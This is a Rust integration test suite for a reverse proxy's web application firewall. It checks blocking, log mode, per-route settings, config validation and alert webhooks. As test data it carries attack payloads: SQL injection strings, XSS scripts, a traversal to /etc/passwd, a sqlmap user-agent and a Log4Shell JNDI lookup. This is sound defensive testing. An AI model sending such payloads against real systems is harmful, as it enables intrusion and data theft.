//! The WAF through the real binary: each place of a request is read, blocks answer 403
//! with the request id, bodies are read ahead without losing a byte, log mode lets the
//! request through, the proxy-manager's site-level `waf` works as written, and every
//! decision is counted by route and rule and kept in the request log.

use bytes::Bytes;
use http::Request;
use http_body_util::Full;

use crate::harness::*;

fn post(host: &str, path: &str, content_type: &str, body: impl Into<Bytes>) -> Request<Full<Bytes>> {
    Request::post(path)
        .header("host", host)
        .header("content-type", content_type)
        .body(Full::new(body.into()))
        .expect("request")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_in_each_place_are_blocked_and_benign_traffic_passes_whole() {
    let b = Backend::start("b").await;
    let site = format!(
        "host: shop.test\nroutes:\n  - path: /\n    backend: {}\n    options:\n      waf: {{mode: block}}\n",
        b.url()
    );
    let gh = Gatehouse::start("", &[("shop", &site)]);
    // A query parameter: 403 naming the request id the response carries.
    let r = get(gh.http, "shop.test", "/search?q=1%27%20or%20%271%27%3D%271").await;
    assert_eq!(r.status, 403);
    let id = r.header("x-request-id").expect("request id").to_string();
    assert!(r.text().contains(&format!("request id: {id}")), "{}", r.text());
    // Asked for JSON, the refusal is JSON.
    let r = get_with(gh.http, "shop.test", "/?x=%3Cscript%3Ealert(1)%3C/script%3E", &[("accept", "application/json")])
        .await;
    assert_eq!((r.status.as_u16(), r.json()["error"]["status"].as_u64()), (403, Some(403)));
    // The path, a cookie, a scanner, a Log4Shell lookup in any header.
    assert_eq!(get(gh.http, "shop.test", "/static/..%252f..%252fetc/passwd").await.status, 403);
    assert_eq!(
        get_with(gh.http, "shop.test", "/", &[("cookie", "s=1; t=%27%3BDROP%20TABLE%20users--")]).await.status,
        403
    );
    assert_eq!(get_with(gh.http, "shop.test", "/", &[("user-agent", "sqlmap/1.8.2#stable")]).await.status, 403);
    assert_eq!(
        get_with(gh.http, "shop.test", "/", &[("x-api-version", "${jndi:ldap://x.example/a}")]).await.status,
        403
    );
    assert_eq!(b.count(), 0, "no attack reached the backend");

    // Benign requests with quotes, apostrophes and markup pass.
    let r = get(gh.http, "shop.test", "/search?q=O%27Brien+%26+Sons&sort=price+desc").await;
    assert_eq!(r.status, 200);
    let rich = "title=Hello&body=%3Cp%3E%3Cstrong%3EHi%3C%2Fstrong%3E+%3Ca+href%3D%22https%3A%2F%2Fexample.com%22%3Elink%3C%2Fa%3E%3C%2Fp%3E";
    let r = send(gh.http, post("shop.test", "/posts", "application/x-www-form-urlencoded", rich)).await;
    assert_eq!(r.status, 200, "{}", r.text());
    // Form and JSON bodies are read.
    let r = send(
        gh.http,
        post("shop.test", "/comment", "application/x-www-form-urlencoded", "c=%3Csvg%2Fonload%3Dalert(1)%3E"),
    )
    .await;
    assert_eq!(r.status, 403);
    let r = send(
        gh.http,
        post("shop.test", "/api/u", "application/json", r#"{"name":"x","q":"1 UNION SELECT password FROM users"}"#),
    )
    .await;
    assert_eq!(r.status, 403);
    // A body longer than what is read ahead reaches the backend whole, with its length.
    let big = format!(r#"{{"notes":"{}"}}"#, "a".repeat(200_000));
    let r = send(gh.http, post("shop.test", "/api/u", "application/json", big.clone())).await;
    assert_eq!((r.status.as_u16(), r.json()["body_len"].as_u64()), (200, Some(big.len() as u64)));
    // ... and so does a chunked one (no declared length), on the own HTTP/1.1 loop.
    let chunk = "x".repeat(70_000);
    let raw_req = format!(
        "POST /api/u HTTP/1.1\r\nHost: shop.test\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n{:x}\r\n{chunk}\r\n5\r\n12345\r\n0\r\n\r\n",
        chunk.len()
    );
    let answer = raw_async(gh.http, raw_req.as_bytes(), NET_TIMEOUT).await;
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    assert!(answer.contains("\"body_len\":70005"), "{answer}");

    // Counted by route and rule (never by address), and kept in the request log.
    let series =
        "gatehouse_security_events_total{site=\"shop\",route=\"shop#0\",kind=\"waf_blocked\",rule=\"sqli-boolean\"} 1";
    let metrics = metrics_with(gh.admin, &[series, "rule=\"scanner-user-agent\"} 1"]).await;
    assert!(metrics.contains(series), "{metrics}");
    assert!(metrics.contains("rule=\"scanner-user-agent\"} 1"), "{metrics}");
    let logged = wait_until_async(NET_TIMEOUT, || async {
        let v = admin_call(gh.admin, http::Method::GET, "/api/logs?status_class=4xx&limit=50", "").await.json();
        v["requests"].as_array().is_some_and(|rows| {
            rows.iter().any(|r| {
                r["error_kind"] == "waf_blocked"
                    && r["error_reason"].as_str().is_some_and(|s| s.contains("sqli-boolean") && s.contains("query:q"))
            })
        })
    })
    .await;
    assert!(logged, "{}", admin_call(gh.admin, http::Method::GET, "/api/logs?limit=5", "").await.text());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn log_mode_custom_rules_exclusions_and_the_site_level_key() {
    let b = Backend::start("b").await;
    // The proxy-manager's layout: `waf` at the top of the site file, for every route; one
    // route turns it off, one logs only, one has its own rule and an exclusion.
    let site = format!(
        "host: panel.test\nwaf:\n  enabled: true\n  mode: block\n  rules:\n    sql_injection: true\n    xss: true\n    path_traversal: true\nroutes:\n  - path: /open\n    backend: {0}\n    options:\n      waf: {{enabled: false}}\n  - path: /watch\n    backend: {0}\n    options:\n      waf: {{mode: log}}\n  - path: /editor\n    backend: {0}\n    options:\n      waf:\n        custom:\n          - {{id: no-dump, in: query, pattern: 'mysqldump', message: 'no dumps'}}\n        exclude:\n          - {{rule: xss, field: html}}\n  - path: /\n    backend: {0}\n",
        b.url()
    );
    let gh = Gatehouse::start("", &[("panel", &site)]);
    let attack = "?q=%3Cscript%3Ealert(1)%3C/script%3E";
    assert_eq!(get(gh.http, "panel.test", &format!("/{attack}")).await.status, 403, "the site's WAF");
    assert_eq!(get(gh.http, "panel.test", &format!("/open{attack}")).await.status, 200, "turned off");
    assert_eq!(get(gh.http, "panel.test", &format!("/watch{attack}")).await.status, 200, "log mode");
    assert_eq!(get(gh.http, "panel.test", &format!("/editor{attack}")).await.status, 403, "excluded only for html");
    assert_eq!(get(gh.http, "panel.test", "/editor?html=%3Cscript%3Ex%3C/script%3E").await.status, 200);
    assert_eq!(get(gh.http, "panel.test", "/editor?cmd=MySQLDump+--all").await.status, 403, "own rule");
    let metrics = metrics_with(
        gh.admin,
        &["kind=\"waf_logged\",rule=\"xss-tag\"} 1", "kind=\"waf_blocked\",rule=\"no-dump\"} 1"],
    )
    .await;
    assert!(metrics.contains("kind=\"waf_logged\",rule=\"xss-tag\"} 1"), "{metrics}");
    assert!(metrics.contains("kind=\"waf_blocked\",rule=\"no-dump\"} 1"), "{metrics}");
    assert!(gh.log().contains("request matched (log mode)"), "{}", gh.log());
    // A custom rule's message goes with its finding.
    assert!(gh.log().contains("\"rule_message\":\"no dumps\""), "{}", gh.log());
}

#[test]
fn waf_settings_are_checked() {
    let dir = tempfile::tempdir().expect("dir");
    let site = "host: a.test\nbackend: http://127.0.0.1:9\noptions:\n  waf:\n    mode: sometimes\n    rules: {sqli: true}\n    custom:\n      - {id: x, in: header, pattern: 'a'}\n      - {id: y, in: path, pattern: '('}\n    exclude:\n      - {rule: xss, path: admin}\n";
    write_config(dir.path(), "", &[("a", site)]);
    let (code, out) = check(dir.path());
    assert_ne!(code, 0, "{out}");
    for expected in [
        "options.waf.mode: expected block or log, got \"sometimes\"",
        "options.waf.rules.sqli: unknown rule group \"sqli\"",
        "options.waf.custom[0].in: expected path, query, body, cookie, any or header:NAME",
        "options.waf.custom[1].pattern: invalid pattern",
        "options.waf.exclude[0].path: expected a path starting with /",
    ] {
        assert!(out.contains(expected), "missing {expected:?} in:\n{out}");
    }
}

/// A burst of blocks sends `waf_block_spike`, and a burst of failed logins
/// `failed_login_spike` (the thresholds and window under `alerts`).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bursts_of_blocks_and_failed_logins_send_spike_webhooks() {
    let b = Backend::start("b").await;
    let hooks = crate::webhooks::Receiver::start(0).await;
    let main = format!(
        "alerts: {{window: 10s, waf_blocks: 3, failed_logins: 2}}\nwebhooks:\n  - url: {}\n    events: [waf_block_spike, failed_login_spike]\n",
        hooks.url("/hook")
    );
    let site = format!(
        "host: shop.test\nroutes:\n  - path: /login\n    backend: {0}\n    options:\n      failed_logins: {{paths: [/login/status/401], ban_after: 100}}\n  - path: /\n    backend: {0}\n    options:\n      waf: {{mode: block}}\n",
        b.url()
    );
    let gh = Gatehouse::start(&main, &[("shop", &site)]);
    for _ in 0..2 {
        assert_eq!(get(gh.http, "shop.test", "/?q=%3Cscript%3Ealert(1)%3C/script%3E").await.status, 403);
    }
    let seen = |kind: &'static str| hooks.on("/hook").iter().any(|e| e["event"] == kind);
    // Below the threshold nothing is sent; the third block within the window is a spike.
    assert!(
        !wait_until(std::time::Duration::from_millis(600), || seen("waf_block_spike")).await,
        "sent below the threshold"
    );
    assert_eq!(get(gh.http, "shop.test", "/?q=%3Cscript%3Ealert(1)%3C/script%3E").await.status, 403);
    assert!(wait_until(NET_TIMEOUT, || seen("waf_block_spike")).await, "no waf_block_spike: {:?}", hooks.on("/hook"));
    // The backend's route prefix is /login; its /login/status/401 answers 401.
    for _ in 0..2 {
        assert_eq!(get(gh.http, "shop.test", "/login/status/401").await.status, 401);
    }
    assert!(
        wait_until(NET_TIMEOUT, || seen("failed_login_spike")).await,
        "no failed_login_spike: {:?}",
        hooks.on("/hook")
    );
}
